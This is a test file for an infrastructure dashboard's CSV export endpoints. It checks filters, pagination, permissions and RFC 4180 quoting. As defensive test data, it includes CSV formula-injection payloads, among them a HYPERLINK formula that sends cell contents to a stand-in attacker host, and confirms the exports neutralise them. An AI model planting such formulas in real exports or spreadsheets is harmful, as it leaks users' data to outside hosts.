// Proves contract §16 "Export": each exported list answers CSV (`?format=csv` or Accept: text/csv) with its header,
// the JSON list's filters, every matching row past one JSON page and past one streamed chunk, formula-leading values
// neutralised, and hostile values (quotes, commas, newlines) read back intact by Python's csv module.
import { beforeAll, describe, expect, test } from 'bun:test'
import { call, testWorld } from '../helpers/app'
import { parseCsv } from '../helpers/csv'
import { applyFacts } from '../../src/features/ingest/apply'
import { recordGrains } from '../../src/features/minions/service'
import { replacePackageSets } from '../../src/features/inventory/service'
import { audit } from '../../src/features/audit/service'
import { upsertJobs } from '../../src/features/jobs/service'
import { recordRun } from '../../src/features/runs/service'
import { noFacts } from '../../src/salt/facts'
import { CSV_PAGE } from '../../src/http/csv'

type World = Awaited<ReturnType<typeof testWorld>>
let w: World

/** Values a spreadsheet would run as formulas (OWASP CSV injection), and one needing RFC 4180 quoting. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\tcmd', '\rcr']
const QUOTED = 'a,"b"\nc\r\nd'
const HOSTILE = [...FORMULAS, QUOTED]
/** More plain minions than one streamed chunk and one JSON page hold. */
const PLAIN = Array.from({ length: CSV_PAGE + 345 }, (_, i) => `m-${String(i).padStart(5, '0')}`)
const IDS = [...PLAIN, ...HOSTILE]
/** What the CSV cell of a value must read back as: the value, with a leading ' when it would start a formula. */
const safe = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)

const T0 = Date.parse('2026-11-21T08:00:00.000Z')
const stateRet = (ok: boolean) => ({ 'test_|-s_|-s_|-nop': { result: ok, changes: {}, duration: 1, __run_num__: 0 } })

/** A CSV answer, checked to be one, read by Python's csv module. */
async function csv(path: string, who: 'viewer' | 'admin' = 'viewer', headers: Record<string, string> = {}) {
  const r = await call(w, 'GET', path, { who, headers })
  expect(r.status).toBe(200)
  expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(r.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z-]+\.csv"$/)
  expect(typeof r.body).toBe('string')
  const rows = parseCsv(r.body as string)
  return { header: rows[0]!, rows: rows.slice(1) }
}
const total = async (path: string) => {
  const r = await call(w, 'GET', path, { who: 'viewer' })
  expect(r.status).toBe(200)
  return r.body.total as number
}
const col = (h: { header: string[]; rows: string[][] }, name: string) => h.rows.map((r) => r[h.header.indexOf(name)]!)

beforeAll(async () => {
  w = await testWorld()
  await applyFacts(w.deps, [{ ...noFacts(), keys: IDS.map((minionId) => ({ minionId, act: 'accept', ts: w.clock.now() })) }])
  await recordGrains(w.deps, IDS.map((id) => ({ id, grains: { os: 'Debian', os_family: 'Debian', osrelease: '12.5', osmajorrelease: 12 } })))
  await replacePackageSets(w.deps, IDS.map((minionId, i) => ({ minionId, source: 'apt', packages: [{ name: 'openssl', version: i % 10 ? '3.0.11-1~deb12u1' : '3.0.13-1~deb12u1', arch: 'amd64' }] })))
  for (let i = 0; i < CSV_PAGE + 200; i++) await audit(w.deps, { username: 'admin', action: i % 10 ? 'export.test' : 'other', target: `t-${i}`, detail: FORMULAS[i % FORMULAS.length] })
  await audit(w.deps, { username: 'admin', action: 'export.test', target: QUOTED, detail: null })
  await upsertJobs(w.deps.db, Array.from({ length: CSV_PAGE + 100 }, (_, i) => ({
    jid: String(20261121080000000000n + BigInt(i)), fun: i % 5 ? 'test.ping' : 'cmd.run', target: i === 7 ? QUOTED : '*', tgtType: 'glob', user: 'root',
    arg: i % 5 ? [] : ['=1+1', { __kwarg__: true, shell: '/bin/sh' }], startedAt: T0 + i * 1000, minions: ['m-00001'],
  })))
  for (let i = 0; i < CSV_PAGE + 50; i++)
    await recordRun(w.deps, { minionId: QUOTED, jid: String(20261121090000000000n + BigInt(i)), fun: 'state.apply', ret: stateRet(i % 3 > 0), stampMs: T0 + i * 1000 })
  // Thousands of writes one by one: PostgreSQL's round trip each takes the setup past the default 5 s.
}, 60_000)

describe('minions', () => {
  test('every minion past one page, header first, ids read back (formula-leading ones prefixed with a quote)', async () => {
    const out = await csv('/api/minions?format=csv&limit=5&offset=3')
    expect(out.header).toEqual(['id', 'key_state', 'presence', 'online', 'last_seen', 'os', 'osrelease', 'ip', 'salt_version', 'last_run_status', 'last_run_at'])
    expect(out.rows.length).toBe(IDS.length)
    expect(col(out, 'id').sort()).toEqual(IDS.map(safe).sort())
    expect(col(out, 'id')).toContain(QUOTED)
    for (const f of FORMULAS) expect(col(out, 'id')).toContain(`'${f}`)
    expect(new Set(col(out, 'key_state'))).toEqual(new Set(['accepted']))
  })

  test('the JSON filters apply; Accept: text/csv asks for it too; format=json stays JSON', async () => {
    const out = await csv('/api/minions?q=m-01', 'viewer', { accept: 'text/csv' })
    expect(out.rows.length).toBe(await total('/api/minions?q=m-01'))
    expect(out.rows.length).toBe(PLAIN.filter((id) => id.includes('m-01')).length)
    expect(col(out, 'id').every((id) => id.includes('m-01'))).toBe(true)
    const json = await call(w, 'GET', '/api/minions?format=json&limit=2', { who: 'viewer', headers: { accept: 'text/csv' } })
    expect(json.body.minions.length).toBe(2)
    const plain = await call(w, 'GET', '/api/minions?limit=2', { who: 'viewer', headers: { accept: 'application/json, text/csv;q=0' } })
    expect(plain.body.minions.length).toBe(2)
  })

  test('the list permission applies unchanged, and a bad format is a 422 naming it', async () => {
    expect((await call(w, 'GET', '/api/minions?format=csv', { who: 'nobody' })).status).toBe(403)
    expect((await call(w, 'GET', '/api/minions?format=csv', { who: 'anon' })).status).toBe(401)
    const bad = await call(w, 'GET', '/api/minions?format=xlsx', { who: 'viewer' })
    expect(bad.status).toBe(422)
    expect(bad.body.detail[0].loc).toEqual(['query', 'format'])
  })
})

describe('version query', () => {
  test("a package's holders below a version: every one, with the same filter as JSON", async () => {
    const out = await csv('/api/inventory/packages/openssl/minions?op=lt&version=3.0.13-1~deb12u1&format=csv')
    expect(out.header).toEqual(['minion_id', 'package', 'version', 'arch', 'source', 'salt_source'])
    const n = await total('/api/inventory/packages/openssl/minions?op=lt&version=3.0.13-1~deb12u1&limit=1')
    expect(n).toBeGreaterThan(CSV_PAGE)
    expect(out.rows.length).toBe(n)
    expect(new Set(col(out, 'version'))).toEqual(new Set(['3.0.11-1~deb12u1']))
    expect(col(out, 'minion_id')).toContain(QUOTED)
  })

  test('an unknown package is still the JSON 404, and a lone op the JSON 422', async () => {
    const r = await call(w, 'GET', '/api/inventory/packages/nope/minions?format=csv', { who: 'viewer' })
    expect(r.status).toBe(404)
    expect(r.body).toEqual({ detail: 'Package not found' })
    expect((await call(w, 'GET', '/api/inventory/packages/openssl/minions?op=lt&format=csv', { who: 'viewer' })).status).toBe(422)
  })
})

describe('vulnerabilities', () => {
  beforeAll(async () => {
    const recs = Array.from({ length: CSV_PAGE + 30 }, (_, i) => ({
      id: `DSA-${i}`, aliases: [`CVE-2026-${i}`], summary: i === 0 ? FORMULAS[0] : i === 1 ? QUOTED : `openssl flaw ${i}`,
      affected: [{ package: { ecosystem: 'Debian:12', name: 'openssl' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '3.0.13-1~deb12u1' }] }] }],
      ...(i % 2 ? { database_specific: { severity: 'high' } } : {}),
    }))
    const r = await call(w, 'POST', '/api/vulns/import', { who: 'admin', body: recs })
    expect(r.status).toBe(200)
  })

  test('the list: every record, the severity filter, hostile summaries neutralised and intact', async () => {
    const all = await csv('/api/vulns?format=csv')
    expect(all.header).toEqual(['id', 'aliases', 'severity', 'summary', 'packages', 'minion_count', 'fixed_versions'])
    expect(all.rows.length).toBe(CSV_PAGE + 30)
    expect(col(all, 'summary')).toContain(safe(FORMULAS[0]!))
    expect(col(all, 'summary')).toContain(QUOTED)
    const high = await csv('/api/vulns?severity=high&format=csv')
    expect(high.rows.length).toBe(await total('/api/vulns?severity=high&limit=1'))
    expect(new Set(col(high, 'severity'))).toEqual(new Set(['high']))
  })

  test("one vulnerability's minions: every one past a chunk; unknown id is the JSON 404", async () => {
    const out = await csv('/api/vulns/DSA-3?format=csv')
    expect(out.header).toEqual(['vuln_id', 'minion_id', 'package', 'installed', 'fixed'])
    const n = (await call(w, 'GET', '/api/vulns/DSA-3?limit=1', { who: 'viewer' })).body.minion_total
    expect(n).toBeGreaterThan(CSV_PAGE)
    expect(out.rows.length).toBe(n)
    expect(col(out, 'minion_id')).toContain(QUOTED)
    expect((await call(w, 'GET', '/api/vulns/NOPE?format=csv', { who: 'viewer' })).status).toBe(404)
  })
})

describe('audit log', () => {
  test('filtered by action, every entry, hostile details neutralised; only for those who may read the audit', async () => {
    const out = await csv('/api/audit?action=export.test&format=csv', 'admin')
    expect(out.header).toEqual(['id', 'ts', 'username', 'action', 'target', 'ok', 'detail', 'client'])
    const n = (await call(w, 'GET', '/api/audit?action=export.test&limit=1', { who: 'admin' })).body.total
    expect(n).toBeGreaterThan(CSV_PAGE)
    expect(out.rows.length).toBe(n)
    expect(new Set(col(out, 'action'))).toEqual(new Set(['export.test']))
    for (const f of FORMULAS) expect(col(out, 'detail')).toContain(`'${f}`)
    expect(col(out, 'target')).toContain(QUOTED)
    // Newest first, as the JSON list: ids strictly falling, none twice.
    const ids = col(out, 'id').map(Number)
    expect(ids).toEqual([...ids].sort((a, b) => b - a))
    expect(new Set(ids).size).toBe(ids.length)
    expect((await call(w, 'GET', '/api/audit?format=csv', { who: 'viewer' })).status).toBe(403)
  })
})

describe('jobs', () => {
  test('every job, the fun filter, arguments and keyword arguments as JSON', async () => {
    const all = await csv('/api/jobs?format=csv')
    expect(all.header).toEqual(['jid', 'fun', 'target', 'tgt_type', 'initiator', 'started_at', 'arguments', 'kwargs', 'minion_count', 'returned', 'failed', 'killed_at', 'killed_by', 'running'])
    expect(all.rows.length).toBe(CSV_PAGE + 100)
    expect(col(all, 'target')).toContain(QUOTED)
    const cmd = await csv('/api/jobs?fun=cmd.run&format=csv')
    expect(cmd.rows.length).toBe(await total('/api/jobs?fun=cmd.run&limit=1'))
    expect(new Set(col(cmd, 'fun'))).toEqual(new Set(['cmd.run']))
    expect(new Set(col(cmd, 'arguments'))).toEqual(new Set(['["=1+1"]']))
    expect(new Set(col(cmd, 'kwargs'))).toEqual(new Set(['{"shell":"/bin/sh"}']))
  })
})

describe("a minion's runs", () => {
  test('every run of a minion with a hostile id, and the status filter', async () => {
    const path = `/api/minions/${encodeURIComponent(QUOTED)}/runs`
    const all = await csv(`${path}?format=csv`)
    expect(all.header).toEqual(['minion_id', 'jid', 'fun', 'completed_at', 'status', 'test', 'pass_count', 'fail_count', 'change_count', 'total_count', 'duration_ms', 'blocked', 'sls', 'source'])
    expect(all.rows.length).toBe(CSV_PAGE + 50)
    expect(new Set(col(all, 'minion_id'))).toEqual(new Set([QUOTED]))
    expect(new Set(col(all, 'source'))).toEqual(new Set(['default']))
    const bad = await csv(`${path}?status=unhealthy&format=csv`)
    expect(bad.rows.length).toBe(await total(`${path}?status=unhealthy&limit=1`))
    expect(new Set(col(bad, 'status'))).toEqual(new Set(['unhealthy']))
  })
})

test('the API document gives each exported list its format parameter and its text/csv answer', async () => {
  const doc = (await call(w, 'GET', '/api/openapi.json', { who: 'anon' })).body
  const lists = ['/api/minions', '/api/inventory/packages/{name}/minions', '/api/vulns', '/api/vulns/{id}', '/api/audit', '/api/jobs', '/api/minions/{minion_id}/runs']
  for (const p of lists) {
    const op = doc.paths[p].get
    expect(op.parameters.find((x: { name: string }) => x.name === 'format')?.schema.anyOf.map((s: { const: string }) => s.const)).toEqual(['json', 'csv'])
    expect(op.responses['200'].content['text/csv']).toBeDefined()
  }
  expect(doc.paths['/api/minions/{minion_id}/packages'].get.responses['200'].content['text/csv']).toBeUndefined()
})
